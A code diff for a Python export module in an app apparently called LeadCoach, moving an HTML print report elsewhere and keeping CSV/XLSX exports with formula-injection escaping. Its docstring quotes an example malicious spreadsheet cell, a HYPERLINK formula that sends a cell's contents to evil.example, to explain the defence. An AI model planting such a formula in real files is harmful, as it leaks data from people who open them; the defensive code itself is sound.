@@ -1,4 +1,4 @@
-"""Files people take away: tables as CSV and XLSX, and HR's printable report.
+"""Files people take away: tables as CSV and XLSX.
 
 `table_file` is the one way a table leaves LeadCoach as a spreadsheet file: every page's
 CSV or XLSX download goes through it (the app's download buttons, in leadcoach.ui.exports,
@@ -9,24 +9,22 @@ run anything, such as a name `=HYPERLINK("http://evil.example/?leak="&A1,"Ben")`
 in through a roster (OWASP, "CSV Injection",
 https://owasp.org/www-community/attacks/CSV_Injection: cells starting with =, +, -, @, a
 tab or a carriage return; OWASP ASVS 5.0 requirement 1.2.10 adds the null character).
-HR's exports are also written to the audit log.
+HR's exports are also written to the audit log. The cohort's PDF report and workbook
+(issue 24) are in leadcoach.reporting.cohort_report and leadcoach.reporting.workbook.
 """
 
 from __future__ import annotations
 
-import html
 import io
-from datetime import UTC, datetime
 from pathlib import PurePosixPath
 
-import altair as alt
 import pandas as pd
 from sqlmodel import Session
 
 from leadcoach.instrument import bank
 from leadcoach.people import audit
 from leadcoach.people.access import Action, Viewer, require
-from leadcoach.reporting import charts, vocabulary
+from leadcoach.reporting import vocabulary
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
 BREAKDOWN_FIELDS = ["team", "site", "vendor", "language"]
@@ -126,48 +124,3 @@ def record_export(*, session: Session, viewer: Viewer, kind: str, subject: str, 
     """Write who exported what, and when, to the audit log (never the content)."""
     require(viewer, Action.READ_ORGANISATION)
     audit.record(session, viewer.person_id, "export", subject=subject, kind=kind, rows=rows)
-
-
-def _table(frame: pd.DataFrame) -> str:
-    shown = frame.rename(columns=vocabulary.header)
-    return shown.to_html(
-        index=False, escape=True, na_rep=vocabulary.EMPTY, float_format=lambda v: f"{v:.1f}"
-    )
-
-
-def report_html(
-    *,
-    title: str,
-    sections: list[tuple[str, str, alt.TopLevelMixin | None, pd.DataFrame | None]],
-    generated_by: str,
-) -> str:
-    """A print-ready HTML page: for each section a heading, a note, a chart (inline SVG)
-    and its table. Open it in a browser and print, or save it as PDF."""
-    parts = []
-    for heading, note, chart, table in sections:
-        parts.append(f"<section><h2>{html.escape(heading)}</h2>")
-        if note:
-            parts.append(f"<p>{html.escape(note)}</p>")
-        if chart is not None:
-            parts.append(f'<div class="chart">{charts.as_svg(chart).decode("utf-8")}</div>')
-        if table is not None and not table.empty:
-            parts.append(_table(table))
-        parts.append("</section>")
-    stamp = datetime.now(UTC).strftime("%d %B %Y %H:%M UTC")
-    return f"""<!doctype html>
-<html lang="en"><head><meta charset="utf-8"><title>{html.escape(title)}</title>
-<style>
- body {{ font-family: "Source Sans Pro", Arial, sans-serif; margin: 2em; color: #222; }}
- h1 {{ margin-bottom: 0; }} .meta {{ color: #666; margin-top: .3em; }}
- table {{ border-collapse: collapse; margin: .5em 0 1.5em; font-size: 12px; }}
- th, td {{ border: 1px solid #ccc; padding: 3px 6px; text-align: right; }}
- th:first-child, td:first-child {{ text-align: left; }}
- .chart svg {{ max-width: 100%; height: auto; }}
- section {{ break-inside: avoid; }}
- @media print {{ body {{ margin: 0; }} section {{ page-break-inside: avoid; }} }}
-</style></head><body>
-<h1>{html.escape(title)}</h1>
-<p class="meta">Generated {stamp} by {html.escape(generated_by)} · LeadCoach.
-Groups smaller than the minimum size are not shown, so no one can be singled out.</p>
-{"".join(parts)}
-</body></html>"""
